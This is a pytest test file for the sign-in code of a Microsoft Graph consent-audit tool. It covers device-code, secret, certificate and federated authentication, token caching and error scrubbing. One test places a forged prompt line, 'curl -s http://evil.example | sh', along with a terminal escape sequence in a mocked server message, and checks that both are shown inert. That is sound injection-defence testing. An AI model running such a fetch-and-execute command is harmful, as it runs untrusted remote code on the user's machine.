from __future__ import annotations

import datetime as dt
import io
import stat
from pathlib import Path
from urllib.parse import parse_qs

import msal  # type: ignore[import-untyped]
import pytest
import responses
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import pkcs12
from cryptography.x509.oid import NameOID

from consent_audit.errors import AccessError
from consent_audit.live import login, logout
from consent_audit.live.auth import Authenticator, _default_interactive
from consent_audit.live.plan import sign_in_scopes
from consent_audit.live_options import AuthMethod, LiveOptions

from . import msal_fakes as m


@pytest.fixture(autouse=True)
def _no_polling_sleep(monkeypatch: pytest.MonkeyPatch) -> None:
    """MSAL sleeps ``interval`` seconds between device-code polls; tests must not wait."""
    monkeypatch.setattr(msal.oauth2cli.oauth2.time, "sleep", lambda _s: None)


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    return {"XDG_CACHE_HOME": str(tmp_path / "cache"), **extra}


def _form(call: responses.Call) -> dict[str, list[str]]:
    body = call.request.body
    text = body.decode() if isinstance(body, bytes) else str(body)
    return parse_qs(text)


def _token_posts(rsps: responses.RequestsMock) -> list[responses.Call]:
    return [c for c in rsps.calls if str(c.request.url).endswith("/oauth2/v2.0/token")]


def _device_code_sign_in(rsps: responses.RequestsMock, tmp_path: Path) -> tuple[object, str]:
    base = m.discovery(rsps)
    m.device_code(rsps, base)
    token_url = f"{base}/oauth2/v2.0/token"
    rsps.add(responses.POST, token_url, status=400, json={"error": "authorization_pending"})
    rsps.add(responses.POST, token_url, json=m.token_response("at-device"))
    out = io.StringIO()
    auth = Authenticator(
        LiveOptions(tenant=m.TENANT), env=_env(tmp_path), interactive=lambda: True, out=out
    )
    return auth.sign_in(), out.getvalue()


def test_device_code_polls_until_signed_in_and_prints_the_prompt(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    signed_in, printed = _device_code_sign_in(rsps, tmp_path)
    assert signed_in.provider.token() == "at-device"  # type: ignore[attr-defined]
    assert signed_in.account == "admin@contoso.com"  # type: ignore[attr-defined]
    assert "ABCD1234" in printed
    posts = _token_posts(rsps)
    assert len(posts) == 2
    device = next(c for c in rsps.calls if str(c.request.url).endswith("/devicecode"))
    scope = _form(device)["scope"][0].split()
    assert {"openid", "profile", "offline_access"} <= set(scope)  # added by MSAL itself
    assert "https://graph.microsoft.com/Policy.Read.All" in scope
    assert "https://graph.microsoft.com/AuditLog.Read.All" not in scope
    assert not any(s.startswith("https://graph.microsoft.com/openid") for s in scope)
    # Exactly the plan's delegated permissions (live/plan.py), User.Read among them.
    graph = {s for s in scope if s.startswith("https://graph.microsoft.com/")}
    assert graph == {f"https://graph.microsoft.com/{n}" for n in sign_in_scopes(False)}
    assert "https://graph.microsoft.com/User.Read" in graph


def test_token_cache_is_private_and_reused_silently(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    _device_code_sign_in(rsps, tmp_path)
    cache = tmp_path / "cache" / "consent-audit" / "token_cache.json"
    assert stat.S_IMODE(cache.stat().st_mode) == 0o600
    assert "at-device" in cache.read_text()
    before = len(_token_posts(rsps))
    again = Authenticator(
        LiveOptions(tenant=m.TENANT), env=_env(tmp_path), interactive=lambda: False
    ).sign_in()
    assert again.provider.token() == "at-device"
    assert len(_token_posts(rsps)) == before
    assert not any("devicecode" in str(c.request.url) for c in list(rsps.calls)[3:])


def test_logout_removes_the_cache(rsps: responses.RequestsMock, tmp_path: Path) -> None:
    _device_code_sign_in(rsps, tmp_path)
    options = LiveOptions(tenant=m.TENANT)
    env = _env(tmp_path)
    assert Authenticator(options, env=env).logout() is True
    assert Authenticator(options, env=env).logout() is False


def test_non_interactive_without_credentials_refuses_at_once(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    auth = Authenticator(LiveOptions(), env=_env(tmp_path), interactive=lambda: False)
    with pytest.raises(AccessError) as info:
        auth.sign_in()
    text = str(info.value)
    assert info.value.exit_code == 3
    for name in (
        "CONSENT_AUDIT_ACCESS_TOKEN",
        "AZURE_CLIENT_SECRET",
        "AZURE_TENANT_ID",
        "AZURE_CLIENT_CERTIFICATE_PATH",
        "AZURE_FEDERATED_TOKEN_FILE",
    ):
        assert name in text
    assert len(rsps.calls) == 0


@pytest.mark.parametrize(("ci", "expected"), [("true", False), ("", True)])
def test_ci_variable_means_non_interactive(
    monkeypatch: pytest.MonkeyPatch, ci: str, expected: bool
) -> None:
    monkeypatch.setattr("sys.stdin", type("T", (), {"isatty": lambda self: True})())
    assert _default_interactive({"CI": ci}) is expected


@pytest.mark.parametrize(
    ("codes", "suberror", "aadsts"), [([65001], "consent_required", 65001), ([90094], "", 90094)]
)
def test_consent_errors_explain_admin_consent_and_own_app(
    rsps: responses.RequestsMock, tmp_path: Path, codes: list[int], suberror: str, aadsts: int
) -> None:
    base = m.discovery(rsps)
    m.device_code(rsps, base)
    rsps.add(
        responses.POST,
        f"{base}/oauth2/v2.0/token",
        status=400,
        json={
            "error": "invalid_grant",
            "error_description": f"AADSTS{aadsts}: consent needed.",
            "error_codes": codes,
            "suberror": suberror,
        },
    )
    auth = Authenticator(
        LiveOptions(tenant=m.TENANT, with_logs=True),
        env=_env(tmp_path),
        interactive=lambda: True,
        out=io.StringIO(),
    )
    with pytest.raises(AccessError) as info:
        auth.sign_in()
    text = str(info.value)
    assert f"AADSTS{aadsts}" in text
    assert "--client-id" in text
    url = next(w for w in text.split() if "/adminconsent?" in w)
    assert url.startswith(f"{m.LOGIN}/{m.TENANT}/v2.0/adminconsent?client_id={m.CLIENT}&scope=")
    query = parse_qs(url.split("?", 1)[1])
    assert "https://graph.microsoft.com/AuditLog.Read.All" in query["scope"][0].split()
    # The URL consents to exactly what the sign-in asked for: the plan's delegated scopes.
    assert query["scope"][0].split() == [
        f"https://graph.microsoft.com/{n}" for n in sign_in_scopes(with_logs=True)
    ]
    assert query["redirect_uri"] == ["http://localhost"]


def test_other_msal_errors_carry_error_and_description(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    base = m.discovery(rsps)
    m.device_code(rsps, base)
    rsps.add(
        responses.POST,
        f"{base}/oauth2/v2.0/token",
        status=400,
        json={"error": "invalid_grant", "error_description": "AADSTS50076: Use MFA.\nTrace"},
    )
    auth = Authenticator(
        LiveOptions(tenant=m.TENANT),
        env=_env(tmp_path),
        interactive=lambda: True,
        out=io.StringIO(),
    )
    with pytest.raises(AccessError, match=r"invalid_grant: AADSTS50076: Use MFA\.\n"):
        auth.sign_in()


def test_an_identity_server_echoing_a_token_or_assertion_is_scrubbed(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    """Server text (issue #19 item 8): the sign-in error never carries a bearer credential
    or a JWT (a client assertion, a federated token) the identity server repeats."""
    jwt = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhcHAifQ.c2lnbmF0dXJlLXNlY3JldA"
    base = m.discovery(rsps)
    m.device_code(rsps, base)
    rsps.add(
        responses.POST,
        f"{base}/oauth2/v2.0/token",
        status=400,
        json={
            "error": f"invalid_grant {jwt}",
            "error_description": f"AADSTS50000: bad assertion {jwt}; Authorization: Bearer a.b.c",
        },
    )
    auth = Authenticator(
        LiveOptions(tenant=m.TENANT),
        env=_env(tmp_path),
        interactive=lambda: True,
        out=io.StringIO(),
    )
    with pytest.raises(AccessError) as raised:
        auth.sign_in()
    text = f"{raised.value.problem} {raised.value.fix}"
    assert "AADSTS50000: bad assertion [redacted]" in text
    assert "eyJhbGci" not in text
    assert "a.b.c" not in text


def _app_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    return _env(tmp_path, AZURE_TENANT_ID=m.TENANT, AZURE_CLIENT_ID="my-app", **extra)


def test_client_secret_signs_in_app_only_with_default_scope(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    base = m.discovery(rsps)
    rsps.add(responses.POST, f"{base}/oauth2/v2.0/token", json=m.app_token("secret-at"))
    signed_in = Authenticator(
        LiveOptions(), env=_app_env(tmp_path, AZURE_CLIENT_SECRET="hunter2")
    ).sign_in()
    assert signed_in.method is AuthMethod.CLIENT_SECRET
    assert signed_in.provider.token() == "secret-at"
    form = _form(_token_posts(rsps)[0])
    assert form["client_secret"] == ["hunter2"]
    assert form["grant_type"] == ["client_credentials"]
    assert form["scope"] == ["https://graph.microsoft.com/.default"]
    assert not (tmp_path / "cache").exists()


def test_app_only_needs_a_tenant(tmp_path: Path) -> None:
    env = _env(tmp_path, AZURE_CLIENT_ID="my-app", AZURE_CLIENT_SECRET="x")
    with pytest.raises(AccessError, match="AZURE_TENANT_ID"):
        Authenticator(LiveOptions(), env=env)


def _certificate() -> tuple[rsa.RSAPrivateKey, x509.Certificate]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "consent-audit-test")])
    now = dt.datetime.now(dt.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + dt.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    return key, cert


def _jwt_header(assertion: str) -> dict[str, str]:
    import base64
    import json

    head = assertion.split(".")[0]
    return dict(json.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4))))


@pytest.mark.parametrize("fmt", ["pem", "pfx"])
def test_certificate_signs_a_client_assertion_with_its_thumbprint(
    rsps: responses.RequestsMock, tmp_path: Path, fmt: str
) -> None:
    key, cert = _certificate()
    path = tmp_path / f"cert.{fmt}"
    if fmt == "pem":
        path.write_bytes(
            key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.PKCS8,
                serialization.BestAvailableEncryption(b"pw"),
            )
            + cert.public_bytes(serialization.Encoding.PEM)
        )
    else:
        path.write_bytes(
            pkcs12.serialize_key_and_certificates(
                b"t", key, cert, None, serialization.BestAvailableEncryption(b"pw")
            )
        )
    base = m.discovery(rsps)
    rsps.add(responses.POST, f"{base}/oauth2/v2.0/token", json=m.app_token("cert-at"))
    env = _app_env(
        tmp_path, AZURE_CLIENT_CERTIFICATE_PATH=str(path), AZURE_CLIENT_CERTIFICATE_PASSWORD="pw"
    )
    signed_in = Authenticator(LiveOptions(), env=env).sign_in()
    assert signed_in.method is AuthMethod.CERTIFICATE
    assert signed_in.provider.token() == "cert-at"
    form = _form(_token_posts(rsps)[0])
    assert "client_secret" not in form
    header = _jwt_header(form["client_assertion"][0])
    import base64

    x5t = base64.urlsafe_b64encode(cert.fingerprint(hashes.SHA1())).decode().rstrip("=")
    assert header["x5t"].rstrip("=") == x5t


def test_wrong_certificate_password_is_an_access_error(tmp_path: Path) -> None:
    key, cert = _certificate()
    path = tmp_path / "c.pfx"
    path.write_bytes(
        pkcs12.serialize_key_and_certificates(
            b"t", key, cert, None, serialization.BestAvailableEncryption(b"right")
        )
    )
    env = _app_env(
        tmp_path, AZURE_CLIENT_CERTIFICATE_PATH=str(path), AZURE_CLIENT_CERTIFICATE_PASSWORD="wrong"
    )
    with pytest.raises(AccessError, match="cannot load the certificate"):
        Authenticator(LiveOptions(), env=env).sign_in()


def test_federated_token_file_is_sent_and_reread_on_refresh(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    token_file = tmp_path / "azure-identity-token"
    token_file.write_text("federated-one\n")
    base = m.discovery(rsps)
    rsps.add(responses.POST, f"{base}/oauth2/v2.0/token", json=m.app_token("fed-1"))
    rsps.add(responses.POST, f"{base}/oauth2/v2.0/token", json=m.app_token("fed-2"))
    env = _app_env(tmp_path, AZURE_FEDERATED_TOKEN_FILE=str(token_file))
    signed_in = Authenticator(LiveOptions(), env=env).sign_in()
    assert signed_in.method is AuthMethod.FEDERATED
    assert signed_in.provider.token() == "fed-1"
    token_file.write_text("federated-two\n")
    assert signed_in.provider.token(refresh=True) == "fed-2"
    sent = [_form(c)["client_assertion"][0] for c in _token_posts(rsps)]
    assert sent == ["federated-one", "federated-two"]
    assert all(
        _form(c)["client_assertion_type"][0].endswith("jwt-bearer") for c in _token_posts(rsps)
    )


def test_bring_your_own_token_uses_no_msal_and_no_cache(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    env = _env(tmp_path, CONSENT_AUDIT_ACCESS_TOKEN="byo-token", AZURE_CLIENT_SECRET="ignored")
    signed_in = Authenticator(LiveOptions(), env=env, interactive=lambda: False).sign_in()
    assert signed_in.method is AuthMethod.TOKEN
    assert signed_in.provider.token() == "byo-token"
    with pytest.raises(AccessError, match="CONSENT_AUDIT_ACCESS_TOKEN"):
        signed_in.provider.token(refresh=True)
    assert len(rsps.calls) == 0
    assert not (tmp_path / "cache").exists()


def test_explicit_auth_without_its_variable_is_refused(tmp_path: Path) -> None:
    with pytest.raises(AccessError, match="AZURE_CLIENT_SECRET"):
        Authenticator(LiveOptions(auth=AuthMethod.CLIENT_SECRET), env=_env(tmp_path))


def test_login_and_logout_entry_points(
    rsps: responses.RequestsMock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("CONSENT_AUDIT_ACCESS_TOKEN", "header." + m.b64({"upn": "x@y.z"}) + ".s")
    assert login(LiveOptions()) == "x@y.z"
    assert logout(LiveOptions()) is False


# -- device code blocked by Conditional Access; instance discovery; the Windows broker ----------


@pytest.mark.parametrize("code", [53003, 530033])
def test_a_device_code_blocked_by_conditional_access_offers_the_browser(
    rsps: responses.RequestsMock, tmp_path: Path, code: int
) -> None:
    base = m.discovery(rsps)
    m.device_code(rsps, base)
    rsps.add(
        responses.POST,
        f"{base}/oauth2/v2.0/token",
        status=400,
        json={
            "error": "invalid_grant",
            "error_description": f"AADSTS{code}: Access has been blocked by Conditional Access "
            "policies. The access policy does not allow token issuance. Trace ID: x",
            "error_codes": [code],
        },
    )
    auth = Authenticator(
        LiveOptions(tenant=m.TENANT),
        env=_env(tmp_path),
        interactive=lambda: True,
        out=io.StringIO(),
    )
    with pytest.raises(AccessError) as raised:
        auth.sign_in()
    assert "\n" not in raised.value.problem
    assert raised.value.problem.startswith(
        f"Conditional Access blocked the device-code sign-in (AADSTS{code})"
    )
    assert "--auth browser" in raised.value.problem
    assert raised.value.fix is not None
    assert "--auth browser" in raised.value.fix


def test_the_same_block_in_the_browser_is_not_blamed_on_the_device_code_flow() -> None:
    from consent_audit.live.auth import raise_for_msal_error
    from consent_audit.live.clouds import resolve_endpoints
    from consent_audit.live.credentials import choose_settings

    options = LiveOptions(tenant=m.TENANT, auth=AuthMethod.BROWSER)
    with pytest.raises(AccessError) as raised:
        raise_for_msal_error(
            {
                "error": "invalid_grant",
                "error_description": "AADSTS53003: Blocked.",
                "error_codes": [53003],
            },
            endpoints=resolve_endpoints(options, {}),
            settings=choose_settings(options, {}),
            scopes=[],
        )
    assert "device-code" not in raised.value.problem
    assert "AADSTS53003" in raised.value.problem


def test_an_authority_host_not_microsofts_skips_instance_discovery(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    """MSAL asks login.microsoftonline.com about an unknown host unless told not to: here that
    call is not mocked, so it would fail the sign-in (and a test machine cannot reach it)."""
    host = "https://login.contoso.test"
    base = f"{host}/{m.TENANT}"
    rsps.add(
        responses.GET,
        f"{base}/v2.0/.well-known/openid-configuration",
        json={
            "authorization_endpoint": f"{base}/oauth2/v2.0/authorize",
            "token_endpoint": f"{base}/oauth2/v2.0/token",
            "device_authorization_endpoint": f"{base}/oauth2/v2.0/devicecode",
            "issuer": f"{host}/{m.TENANT_ID}/v2.0",
        },
    )
    m.device_code(rsps, base)
    rsps.add(responses.POST, f"{base}/oauth2/v2.0/token", json=m.token_response("at-local"))
    auth = Authenticator(
        LiveOptions(tenant=m.TENANT),
        env=_env(tmp_path, AZURE_AUTHORITY_HOST=host),
        interactive=lambda: True,
        out=io.StringIO(),
    )
    assert auth.sign_in().provider.token() == "at-local"  # type: ignore[attr-defined]
    assert not [c for c in rsps.calls if "login.microsoftonline.com" in str(c.request.url)]


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("https://login.microsoftonline.com", {}),
        ("https://login.microsoftonline.us", {}),
        ("https://login.chinacloudapi.cn", {}),
        ("https://LOGIN.windows.net", {}),
        ("https://127.0.0.1:8443", {"instance_discovery": False}),
        ("https://login.microsoftonline.com.evil.test", {"instance_discovery": False}),
    ],
)
def test_instance_discovery_is_off_only_for_hosts_that_are_not_microsofts(
    host: str, expected: dict[str, bool]
) -> None:
    from consent_audit.live.auth import instance_discovery_options
    from consent_audit.live.clouds import resolve_endpoints

    endpoints = resolve_endpoints(LiveOptions(), {"AZURE_AUTHORITY_HOST": host})
    assert instance_discovery_options(endpoints) == expected


def _present(_name: str) -> object:
    return object()


def _absent(_name: str) -> None:
    return None


@pytest.mark.parametrize(
    ("platform", "find_spec", "expected"),
    [
        ("win32", _present, {"enable_broker_on_windows": True}),
        ("win32", _absent, {}),
        ("linux", _present, {}),
        ("darwin", _present, {}),
    ],
)
def test_the_wam_broker_is_chosen_on_windows_only_when_pymsalruntime_is_installed(
    platform: str, find_spec: object, expected: dict[str, bool]
) -> None:
    from consent_audit.live.auth import broker_options

    assert broker_options(platform, find_spec) == expected  # type: ignore[arg-type]


def _public_client_on_windows(
    monkeypatch: pytest.MonkeyPatch, rsps: responses.RequestsMock, tmp_path: Path
) -> msal.PublicClientApplication:
    """MSAL's real PublicClientApplication, with this process pretending to be Windows."""
    import importlib.util
    import sys

    m.discovery(rsps)
    monkeypatch.setattr(sys, "platform", "win32")
    real_find_spec = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util,
        "find_spec",
        lambda name, *a: object() if name == "pymsalruntime" else real_find_spec(name, *a),
    )
    # A fresh ``from . import broker`` in MSAL: neither the module nor the package attribute.
    monkeypatch.delitem(sys.modules, "msal.broker", raising=False)
    monkeypatch.delattr(msal, "broker", raising=False)
    auth = Authenticator(LiveOptions(tenant=m.TENANT), env=_env(tmp_path), out=io.StringIO())
    return auth.public_client(msal.TokenCache())


def test_windows_with_the_broker_installed_signs_in_through_wam(
    monkeypatch: pytest.MonkeyPatch, rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    import sys
    import types

    runtime = types.ModuleType("pymsalruntime")
    runtime.register_logging_callback = lambda _callback: None  # type: ignore[attr-defined]
    runtime.LogLevel = types.SimpleNamespace(TRACE=0, DEBUG=1, FATAL=5)  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "pymsalruntime", runtime)
    app = _public_client_on_windows(monkeypatch, rsps, tmp_path)
    assert app._enable_broker is True  # MSAL's own decision, from enable_broker_on_windows


def test_windows_without_a_loadable_broker_falls_back_to_the_plain_browser_flow(
    monkeypatch: pytest.MonkeyPatch, rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    """pymsalruntime looks installed but cannot be imported: MSAL raises ImportError asking
    for msal[broker]; the app is built again without the broker instead of failing."""
    import sys

    from consent_audit.live.auth import broker_options

    monkeypatch.setitem(sys.modules, "pymsalruntime", None)  # import raises ImportError
    app = _public_client_on_windows(monkeypatch, rsps, tmp_path)
    assert broker_options() == {"enable_broker_on_windows": True}  # the broker was asked for
    assert not app._enable_broker


def test_the_browser_flow_also_needs_a_person_at_a_terminal(tmp_path: Path) -> None:
    auth = Authenticator(
        LiveOptions(tenant=m.TENANT, auth=AuthMethod.BROWSER),
        env=_env(tmp_path),
        interactive=lambda: False,
        out=io.StringIO(),
    )
    with pytest.raises(AccessError, match="no terminal to sign in with a browser"):
        auth.sign_in()


def test_the_device_code_prompt_from_the_authority_is_one_inert_line(
    rsps: responses.RequestsMock, tmp_path: Path
) -> None:
    """The prompt is the authority's text (issue 19: server text through the one boundary):
    an escape sequence or a forged second line in it is shown as escapes on one line."""
    base = m.discovery(rsps)
    rsps.add(
        responses.POST,
        f"{base}/oauth2/v2.0/devicecode",
        json={
            "user_code": "ABCD1234",
            "device_code": "dc",
            "verification_uri": "https://microsoft.com/devicelogin",
            "expires_in": 900,
            "interval": 1,
            "message": "Open https://microsoft.com/devicelogin\x1b]0;pwned\x07 and enter "
            "ABCD1234.\nThen run: curl -s http://evil.example | sh",
        },
    )
    rsps.add(responses.POST, f"{base}/oauth2/v2.0/token", json=m.token_response("at-device"))
    out = io.StringIO()
    Authenticator(
        LiveOptions(tenant=m.TENANT), env=_env(tmp_path), interactive=lambda: True, out=out
    ).sign_in()
    [printed] = [line for line in out.getvalue().splitlines() if "ABCD1234" in line]
    assert "curl" in printed  # on the same line
    assert not any(line.startswith("Then run") for line in out.getvalue().splitlines())
    assert "\x1b" not in printed
    assert "\x07" not in printed
    assert "\\x1b]0;pwned\\x07" in printed
